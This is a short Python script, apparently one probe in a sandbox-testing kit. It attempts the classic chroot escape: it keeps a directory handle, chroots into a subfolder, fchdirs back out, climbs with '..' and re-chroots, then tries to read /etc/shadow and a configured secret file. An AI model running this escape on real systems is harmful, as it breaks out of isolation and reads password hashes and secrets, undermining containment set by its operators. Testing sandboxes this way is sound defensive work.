"""The old way out of a changed root folder: change it again and climb with `..`."""

import os

from kit import TARGETS, attempt, done, read

os.mkdir("jail")
here = os.open(".", os.O_RDONLY)
attempt("chroot", lambda: os.chroot("jail"))
attempt("fchdir", lambda: (os.fchdir(here), [os.chdir("..") for _ in range(64)], os.chroot("."), read("/etc/shadow")))
for _ in range(64):
    os.chdir("..")
attempt("climbed", lambda: read("." + TARGETS["secret_file"]))
done()
